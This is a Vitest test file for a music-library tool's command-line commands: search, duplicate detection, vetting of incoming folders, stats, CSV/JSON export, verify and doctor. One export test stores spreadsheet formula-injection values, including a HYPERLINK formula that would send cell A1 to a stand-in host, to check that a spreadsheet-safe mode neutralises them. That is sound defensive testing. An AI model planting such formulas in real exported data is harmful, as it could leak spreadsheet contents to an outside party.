// What is asked of a library on the command line: search, check, duplicates, vet, stats, verify, export.

import { copyFileSync, renameSync } from "node:fs";
import { beforeAll, describe, expect, it } from "vitest";
import { openLibrary } from "../../src/library/index.ts";
import { type AudioTags, flac, wav } from "../library/support/audio.ts";
import { callCli, runCli } from "../support/cli.ts";
import { useDatabase } from "../support/database.ts";
import { useFolder } from "../support/files.ts";

const db = useDatabase({ empty: true });
const folder = useFolder();

const library = (...args: string[]): ReturnType<typeof callCli> =>
  callCli(["library", ...args, "--dsn", db.dsn]);

async function json<Value = Record<string, unknown>>(...args: string[]): Promise<Value> {
  const { code, stdout, stderr } = await library(...args, "--json", "--quiet");
  expect(code, stderr).toBe(0);
  return JSON.parse(stdout) as Value;
}

const ada = (title: string, more: AudioTags = {}): AudioTags => ({ artist: "Ada Reed", title, ...more });

beforeAll(async () => {
  const write = (path: string, seed: number, tags: AudioTags): string =>
    folder.text(path, wav(tags, { seed }));
  const harbour = { album: "Harbour", date: "2001" };
  const first = write("music/a/first.wav", 300, ada("First Light", { ...harbour, genre: "Jazz" }));
  write("music/a/ferry.wav", 310, ada("Night Ferry", harbour));
  write("music/b/ferry.wav", 320, ada("Night Ferry (Radio Edit)", { date: "2002" }));
  const halo = { artist: "Café 100%", title: "Halo", genre: "Chamber" };
  folder.text("music/c/halo.wav", wav(halo, { seed: 330, id3: true }));
  folder.text("music/d/no tags.wav", wav({}, { seed: 340 }));
  copyFileSync(first, folder.path("music/d/copy.wav"));
  const { code, stderr } = await library("scan", folder.path("music"), "--quiet");
  expect(code, stderr).toBe(0);
  write("incoming/new.wav", 400, ada("Low Tide"));
  write("incoming/known.wav", 410, { artist: "ADA REED", title: " first light " });
  write("incoming/near.wav", 420, ada("Night Fairy"));
  write("incoming/sub/new.wav", 400, ada("Low Tide"));
});

interface Found {
  count: number;
  files: { path: string; mtimeNs: string }[];
}

describe("search", () => {
  it.each<[string, string[], string[]]>([
    ["words, all of them", ["night", "FERRY"], ["a/ferry.wav", "b/ferry.wav"]],
    ["words of the path", ["copy"], ["d/copy.wav"]],
    ["an artist, in any case", ["--artist", "ada reed", "--title", "night ferry"], ["a/ferry.wav"]],
    ["a pattern", ["--artist", "ada*", "--title", "*ferry*"], ["b/ferry.wav", "a/ferry.wav"]],
    ["what a pattern of SQL would be", ["--artist", "Café 100%"], ["c/halo.wav"]],
    ["an artist spelt with marks of their own", ["--artist", "Cafe\u0301 100%"], ["c/halo.wav"]],
    ["a word spelt so", ["cafe\u0301"], ["c/halo.wav"]],
    ["a percent sign is one", ["--artist", "%"], []],
    ["an album", ["--album", "harbour", "light"], ["a/first.wav", "d/copy.wav"]],
    ["a tag of several values", ["--tag", "genre=Chamber"], ["c/halo.wav"]],
    ["tags that are columns", ["--tag", "year=2001", "--tag", "genre=Jazz"], ["a/first.wav", "d/copy.wav"]],
    ["a format", ["--format", "WAV", "--title", "halo"], ["c/halo.wav"]],
    ["nothing", ["--format", "flac"], []],
  ])("finds by %s", async (_name, args, paths) => {
    const { count, files } = await json<Found>("search", ...args);
    expect(new Set(files.map(({ path }) => path))).toEqual(new Set(paths));
    expect(count).toBe(paths.length);
  });

  it("prints a table, and says when there are more", async () => {
    const { stdout, stderr } = await library("search", "--limit", "1", "first");
    expect(stdout).toMatch(/^artist +title +album +year +length +size +path\n/);
    expect(stdout).toMatch(/^Ada Reed +First Light +Harbour +2001 +0\.1 s +[\d.]+ \w+ +a\/first\.wav$/m);
    expect(stderr).toBe("1 file of 2 files; --limit prints more.\n");
  });

  it.each<[string, string[]]>([
    ["a tag without a value", ["--tag", "genre"]],
    ["a limit of none", ["--limit", "0"]],
    ["too many", ["--limit", "10001"]],
  ])("refuses %s", async (_name, args) => {
    expect(await library("search", ...args)).toMatchObject({ code: 2, stdout: "" });
  });
});

describe("check", () => {
  it("says of each file what it is, never that it is itself", async () => {
    const paths = ["incoming/new.wav", "incoming/known.wav", "incoming/near.wav", "music/a/ferry.wav"];
    const { results } = await json<{ results: Record<string, unknown>[] }>(
      "check",
      ...paths.map((path) => folder.path(path)),
    );
    expect(results).toMatchObject([
      { verdict: "new", matchType: "none", confidence: 0, matchedFile: null },
      { verdict: "duplicate", matchType: "exact_metadata", confidence: 1, isDuplicate: true },
      {
        verdict: "uncertain",
        matchType: "fuzzy_metadata",
        matchedFile: { title: expect.stringMatching(/^Night Ferry/) },
      },
      { matchType: "fuzzy_metadata", matchedFile: { path: "b/ferry.wav" } },
    ]);
  });

  it("prints a table, and ends with 3 when a file cannot be read", async () => {
    const { code, stdout } = await library(
      "check",
      folder.path("incoming/known.wav"),
      folder.path("nowhere.wav"),
    );
    expect(code).toBe(3);
    expect(stdout).toMatch(/known\.wav +duplicate +same artist and title +(a\/first|d\/copy)\.wav$/m);
    expect(stdout).toMatch(/nowhere\.wav +unreadable /);
  });

  it("leaves likeness out when told so, and refuses a threshold that is none", async () => {
    const path = folder.path("incoming/near.wav");
    expect((await library("check", path, "--no-fuzzy")).stdout).toMatch(/ new +- +-$/m);
    expect((await library("check", path, "--threshold", "0.99")).stdout).toMatch(/ new +- +-$/m);
    expect((await library("check", path, "--threshold", "1.5")).code).toBe(2);
  });
});

describe("artists that are nearly the same", () => {
  it("are found when they are asked for, and are never certain", async () => {
    const path = folder.text(
      "incoming2/typo.wav",
      wav({ artist: "Ada Reeed", title: "Night Ferry" }, { seed: 500 }),
    );
    expect((await library("check", path)).stdout).toMatch(/ new +- +-$/m);
    const { results } = await json<{ results: object[] }>("check", path, "--fuzzy-artists");
    expect(results).toMatchObject([{ verdict: "uncertain", matchType: "fuzzy_artist" }]);
  });
});

interface Groups {
  groups: {
    matchType: string;
    isProven: boolean;
    isCertain: boolean;
    extraBytes: number;
    files: { path: string }[];
  }[];
  proven: number;
}

describe("duplicates", () => {
  it("reports groups; a sample is no proof", async () => {
    const { code, stdout } = await library("duplicates");
    expect(code).toBe(0);
    expect(stdout).toMatch(/^same size and sample of content, not proven: 2 files$/m);
    expect(stdout).toMatch(/^title alike, \d\.\d\d, (un)?certain: 2 files$/m);
    expect(stdout).toContain("A sample of content is no proof, so delete nothing for it alone");
    expect(stdout).not.toContain("identical");
  });

  it("calls files identical whose bytes were all compared", async () => {
    expect((await library("scan", folder.path("music"), "--full-hash", "--reread", "--quiet")).code).toBe(0);
    const { stdout } = await library("duplicates", "--by", "full,content");
    expect(stdout).toMatch(/^identical, all bytes compared: 2 files$/m);
    expect(stdout).toMatch(/Identical files beyond the first take [\d.]+ \w+\.\n$/);
    const { groups, proven } = await json<Groups>("duplicates", "--by", "full");
    expect(groups).toMatchObject([
      { isProven: true, files: [{ path: "a/first.wav" }, { path: "d/copy.wav" }] },
    ]);
    expect(proven).toBe(1);
  });

  it("by what it is told", async () => {
    const { groups } = await json<Groups>("duplicates", "--by", "fuzzy", "--threshold", "0.9");
    expect(groups.map(({ files }) => files.map(({ path }) => path))).toContainEqual([
      "a/ferry.wav",
      "b/ferry.wav",
    ]);
    expect((await library("duplicates", "--by", "smell")).code).toBe(2);
    expect((await library("duplicates", "--by", "audio")).stdout).toBe("Nothing is there twice.\n");
  });

  it("says of equal audio under other tags that it is that", async () => {
    folder.text("retagged/one.flac", flac({ artist: "A", title: "One" }, { seed: 9 }));
    folder.text("retagged/two.flac", flac({ artist: "B", title: "Two" }, { seed: 9 }));
    expect((await library("scan", folder.path("retagged"), "--library", "retagged", "--quiet")).code).toBe(0);
    const { stdout } = await library("duplicates", "--library", "retagged");
    expect(stdout).toMatch(/^same audio, certain: 2 files$/m);
    expect(stdout).not.toContain("identical");
  });
});

it("duplicates of artists that are nearly the same come when asked for", async () => {
  const near = await openLibrary(db.database, { library: "near" });
  await near.batchInsertFiles([
    { path: "1", size: 1, artist: "Ada Reed", title: "Night Ferry" },
    { path: "2", size: 2, artist: "Ada Reeed", title: "Night Ferry" },
  ]);
  const duplicates = (...args: string[]) => library("duplicates", "--library", "near", ...args);
  expect((await duplicates()).stdout).toBe("Nothing is there twice.\n");
  expect((await duplicates("--fuzzy-artists")).stdout).toMatch(
    /^artist and title alike, 0\.94, uncertain: 2 files$/m,
  );
  expect(await duplicates("--fuzzy-artists", "--by", "tags")).toMatchObject({ code: 2, stdout: "" });
});

it("likeness is not rounded up to what would be certain", async () => {
  const near = await openLibrary(db.database, { library: "nearly" });
  const title = "abcdefghijklmnopqrs";
  await near.batchInsertFiles([
    { path: "1", size: 1, artist: "A", title: `${title}t` },
    { path: "2", size: 2, artist: "A", title: `${title.slice(1)}t` },
    { path: "3", size: 1, artist: "B", title: `${title}u` },
    { path: "4", size: 2, artist: "B", title: `${title}v` },
    { path: "5", size: 1, artist: "C", title: `${title.slice(1)}u` },
    { path: "6", size: 2, artist: "C", title: `${title.slice(1)}v` },
  ]);
  const { stdout } = await library("duplicates", "--library", "nearly");
  expect(stdout.match(/^title alike.*$/gm)).toEqual([
    "title alike, 0.97, certain: 2 files",
    "title alike, 0.95, certain: 2 files",
    "title alike, 0.94, uncertain: 2 files",
  ]);
});

it("totals of duplicates count a file once, however many groups it is in", async () => {
  const overlapping = await openLibrary(db.database, { library: "overlapping" });
  const one = { artist: "A", title: "One" };
  const bytes = { contentHash: "c", fullHash: "f" };
  await overlapping.batchInsertFiles([
    { path: "1", size: 100, ...one, ...bytes },
    { path: "2", size: 100, ...one, ...bytes },
    { path: "3", size: 100, ...one, contentHash: "c" },
    { path: "4", size: 7, ...one, contentHash: "d" },
    { path: "5", size: 7, artist: "A", title: "Ones", contentHash: "e" },
  ]);
  const report = await json<Groups>(...["duplicates", "--library", "overlapping"]);
  expect(report.groups.map(({ files, extraBytes }) => [files.length, extraBytes])).toEqual([
    [2, 100],
    [3, 200],
    [4, 207],
    [5, 214],
  ]);
  expect(report).toMatchObject({ count: 4, files: 5, provenExtraBytes: 100, unprovenExtraBytes: 100 });
  const { stdout } = await library("duplicates", "--library", "overlapping");
  expect(stdout).toContain("\n4 groups of 5 files: ");
});

interface Vetted {
  total: number;
  newFiles: { path: string }[];
  duplicates: { path: string }[];
  uncertain: { path: string }[];
  newPercent: number;
}

describe("vet", () => {
  it("sorts a folder, remembers it, and changes nothing else", async () => {
    const before = await db.value("select count(*)::int from library.file");
    const { code, stdout } = await library("vet", folder.path("incoming"));
    expect(code).toBe(0);
    expect(stdout).toMatch(
      /4 files, 1 new \(25\.0 %\), 2 duplicates \(50\.0 %\), 1 uncertain \(25\.0 %\) \(/,
    );
    expect(stdout).toMatch(
      /^Uncertain, listen to them:\n {2}near\.wav +title alike, 0\.\d\d +[ab]\/ferry\.wav$/m,
    );
    const report = await json<Vetted>("vet", folder.path("incoming"), "--no-fuzzy");
    expect(report).toMatchObject({ total: 4, uncertain: [], newPercent: 50 });
    const { vettings } = await json<{ vettings: object[] }>("vet", "--history");
    expect(vettings).toMatchObject([
      { totalFiles: 4, duplicates: 2, newFiles: 2, uncertain: 0 },
      { totalFiles: 4, duplicates: 2, newFiles: 1, uncertain: 1, threshold: 0.8 },
    ]);
    expect((await library("vet", "--history", "--limit", "1")).stdout.split("\n")).toHaveLength(3);
    expect(await db.value("select count(*)::int from library.file")).toBe(before);
  });

  it("by a role that may only read: says at once which right it takes, and does without the history", async () => {
    const role = `reader_${process.pid}`;
    await db.rows(`create role ${role} login password 'reader'; grant usage on schema library to ${role};
      grant select on all tables in schema library to ${role}`);
    const url = new URL(db.dsn);
    url.username = role;
    url.password = "reader";
    const vetAs = (dsn: URL, ...args: string[]) =>
      callCli([
        "library",
        "vet",
        folder.path("incoming"),
        ...args,
        "--json",
        "--quiet",
        "--dsn",
        dsn.toString(),
      ]);
    const before = await db.value("select count(*)::int from library.vetting");
    try {
      const refused = await vetAs(url);
      expect(refused.code).toBe(1);
      const { message } = (JSON.parse(refused.stdout) as { error: { message: string } }).error;
      expect(message).toContain(`grant select, insert on "library"."vetting" to ${role};`);
      expect(message).toContain("--no-history");
      expect(await vetAs(url, "--no-history")).toMatchObject({ code: 0 });
      const readOnly = new URL(db.dsn);
      readOnly.searchParams.set("options", "-c default_transaction_read_only=on");
      expect((await vetAs(readOnly)).stdout).toContain("this connection may only read");
      expect(await vetAs(readOnly, "--no-history")).toMatchObject({ code: 0 });
      expect(await db.value("select count(*)::int from library.vetting")).toBe(before);
      await db.rows(`grant insert on library.vetting to ${role}`);
      expect(await vetAs(url)).toMatchObject({ code: 0 });
      expect(await db.value("select count(*)::int from library.vetting")).toBe(Number(before) + 1);
    } finally {
      await db.rows(`drop owned by ${role}; drop role ${role}`);
    }
  });

  it.each<[string, () => string[], number]>([
    ["neither, and no history", () => ["vet", "--no-history"], 2],
    ["neither folder nor history", () => ["vet"], 2],
    ["both", () => ["vet", folder.root, "--history"], 2],
    ["a folder without a name", () => ["vet", ""], 2],
    ["a folder that is not there", () => ["vet", folder.path("nowhere")], 1],
  ])("refuses %s", async (_name, args, code) => {
    expect(await library(...args())).toMatchObject({ code, stdout: "" });
  });
});

describe("stats and export", () => {
  it("numbers of the library", async () => {
    expect(await json("stats")).toMatchObject({
      library: "default",
      root: folder.path("music"),
      files: 6,
      missing: 0,
      formats: { wav: 6 },
      artists: 2,
      lastScannedAt: expect.any(String),
    });
    const { stdout } = await library("stats");
    expect(stdout).toMatch(/^default: 6 files in /);
    expect(stdout).toMatch(/^wav +6$/m);
    expect(await json("stats", "--all")).toMatchObject({
      libraries: [
        { name: "default", files: 6, root: folder.path("music") },
        { name: "near" },
        { name: "nearly" },
        { name: "overlapping" },
        { name: "retagged" },
      ],
    });
    expect((await library("stats", "--all")).stdout).toMatch(/^default +6 +[\d.]+ kB +20\S+ +\/.*music$/m);
    expect((await json("stats", "--all", "--schema", "none")) as object).toEqual({ libraries: [] });
  });

  it("every file, an object or a line of CSV each", async () => {
    const lines = (await library("export")).stdout.trimEnd().split("\n");
    const files = lines.map((line) => JSON.parse(line) as { path: string; tags: object; mtimeNs: string });
    expect(files.map(({ path }) => path)).toEqual([...files.map(({ path }) => path)].sort());
    expect(files.find(({ path }) => path === "c/halo.wav")).toMatchObject({
      artist: "Café 100%",
      tags: { genre: ["Chamber"] },
      mtimeNs: expect.stringMatching(/^\d{19}$/),
    });
    const csv = (await library("export", "--format", "csv")).stdout.trimEnd().split("\n");
    expect(csv).toHaveLength(7);
    expect(csv[0]).toMatch(/^path,filename,kind,format,size,.*,is_hash_of_name,inode,warnings,id$/);
    expect(csv.find((line) => /^d\/no tags/.test(line))).toMatch(/,true,\d+:\d+,,\d+$/);
    expect(csv.find((line) => /^a\/first/.test(line))).toContain(",Ada Reed,First Light,Harbour,,2001,");
    expect(csv.find((line) => /^c\/halo/.test(line))).toContain(',"{""genre"":[""Chamber""],');
    expect(await json("export")).toMatchObject({ count: 6 });
  });
});

it("a table for spreadsheets has no formulas, and one for programs is exact", async () => {
  const formulas = await openLibrary(db.database, { library: "formulas" });
  const artist = '=HYPERLINK("http://x/?"&A1)';
  await formulas.batchInsertFiles([
    { path: "-a.mp3", size: 1, artist, title: "+1", album: "@SUM(1)", tags: { a: "=1" } },
    {
      path: "b.mp3",
      size: 2,
      artist: "a=b",
      title: " =1",
      album: "\uff1d1",
      albumArtist: "plain",
      year: 2001,
    },
  ]);
  const linesOf = async (...more: string[]): Promise<string[]> => {
    const { stdout } = await library("export", "--library", "formulas", "--format", "csv", ...more);
    return stdout.split("\n").slice(1, 3);
  };
  const quoted = '=HYPERLINK(""http://x/?""&A1)"';
  const exact = await linesOf();
  expect(exact[0]).toContain(`-a.mp3,-a.mp3,audio,mp3,1,,"${quoted},+1,@SUM(1),,`);
  expect(exact[1]).toContain('b.mp3,b.mp3,audio,mp3,2,,a=b," =1",\uff1d1,plain,2001,');
  const safe = await linesOf("--safe-for-spreadsheets");
  expect(safe[0]).toContain(`'-a.mp3,'-a.mp3,audio,mp3,1,,"'${quoted},'+1,'@SUM(1),,`);
  expect(safe[1]).toContain("b.mp3,b.mp3,audio,mp3,2,,a=b,' =1,'\uff1d1,plain,2001,");
  expect(await library("export", "--safe-for-spreadsheets")).toMatchObject({ code: 2, stdout: "" });
});

describe("verify", () => {
  it("says what is gone, marks it when told, and refuses a folder that is not there", async () => {
    expect(await library("verify", "--quiet")).toMatchObject({ code: 0, stdout: "6 files, none is gone.\n" });
    renameSync(folder.path("music/c/halo.wav"), folder.path("music/c/aside.txt"));
    folder.text("music/c/note.wav", wav());
    const first = await library("verify");
    expect(first.code).toBe(1);
    expect(first.stdout).toBe("missing  c/halo.wav\n1 of 6 files gone.\n");
    expect(first.stderr).toContain("--mark remembers it");
    expect((await json<Found>("search", "halo")).count).toBe(1);
    expect(await library("verify", folder.path("music/d"), "--quiet")).toMatchObject({ code: 0 });
    const marked = await library("verify", "--mark", "--json", "--quiet");
    expect(JSON.parse(marked.stdout)).toMatchObject({
      ok: false,
      checked: 6,
      missing: ["c/halo.wav"],
      marked: 1,
    });
    expect((await json<Found>("search", "halo")).count).toBe(0);
    expect(await json<Found>("search", "--missing")).toMatchObject({
      count: 1,
      files: [{ state: "missing" }],
    });
    renameSync(folder.path("music/c/aside.txt"), folder.path("music/c/halo.wav"));
    expect((await library("verify", "--mark")).stdout).toContain("back     c/halo.wav\n");
    renameSync(folder.path("music"), folder.path("unmounted"));
    const { code, stdout } = await library("verify", "--mark", "--json");
    expect(code).toBe(1);
    expect(JSON.parse(stdout)).toMatchObject({ error: { code: "UNREADABLE_SOURCE" } });
    renameSync(folder.path("unmounted"), folder.path("music"));
    expect((await json<Found>("search", "--missing")).count).toBe(0);
  });
});

describe("doctor", () => {
  interface Diagnosis {
    library: object;
    notes: string[];
  }
  const doctor = (...args: string[]) => callCli(["doctor", ...args, "--dsn", db.dsn]);
  const diagnose = async (...args: string[]): Promise<Diagnosis> => {
    const { code, stdout, stderr } = await doctor("--json", ...args);
    expect(code, stderr).toBe(0);
    return JSON.parse(stdout) as Diagnosis;
  };

  it("says what the store of libraries is like, and where there is none", async () => {
    const files = await db.value<number>("select count(*)::int from library.file");
    const { library: store, notes } = await diagnose();
    expect(store).toMatchObject({
      schema: "library",
      exists: true,
      version: expect.stringMatching(/^\d{4}_/),
      pending: [],
      files,
      libraries: expect.any(Number),
      trigrams: { schema: "public" },
      problem: null,
    });
    expect(notes.join()).not.toContain("up to date");
    expect((await doctor()).stdout).toMatch(
      /^library {3}[\d,]+ files of \d+ libraries in the schema library, version \d{4}_\w+; pg_trgm in the schema public$/m,
    );
    expect(await diagnose("--library-schema", "none")).toMatchObject({
      library: { exists: false, files: null },
    });
    expect((await doctor("--library-schema", "none")).stdout).toMatch(
      /^library {3}none in the schema none; /m,
    );
  });

  it("names what is pending, and the right that is missing", async () => {
    await openLibrary(db.database, { schema: "older" });
    await db.rows(
      "delete from older.library_migration where name = (select max(name) from older.library_migration)",
    );
    const older = await diagnose("--library-schema", "older");
    expect(older.library).toMatchObject({ exists: true, pending: [expect.stringMatching(/^\d{4}_/)] });
    expect(older.notes.join()).toContain("the next scan brings the schema older up to date");
    const role = `patient_${process.pid}`;
    await db.rows(`create role ${role} login password 'patient'`);
    const url = new URL(db.dsn);
    url.username = role;
    url.password = "patient";
    try {
      const { code, stdout } = await callCli(["doctor", "--json", "--dsn", url.toString()]);
      expect(code).toBe(0);
      const { library: store, notes } = JSON.parse(stdout) as Diagnosis;
      expect(store).toMatchObject({ problem: expect.stringContaining("permission denied") });
      expect(notes.join()).toContain("permission denied");
    } finally {
      await db.rows(`drop role ${role}`);
    }
  });
});

describe("where there is no library", () => {
  it.each(["search", "stats", "duplicates", "verify", "export"])("%s makes none", async (command) => {
    const { code, stdout } = await library(command, "--library", "of nobody", "--json");
    expect(code).toBe(1);
    expect(JSON.parse(stdout)).toMatchObject({
      error: { code: "NOT_FOUND", message: expect.stringContaining("copycat library scan") },
    });
    expect(await db.value("select count(*)::int from library.library where name = 'of nobody'")).toBe(0);
  });

  it("nor a server", async () => {
    const { code, stderr } = await runCli(["library", "stats"], { cwd: folder.folder("empty") });
    expect(code).toBe(1);
    expect(stderr).toContain("copycat library scan FOLDER");
  });
});
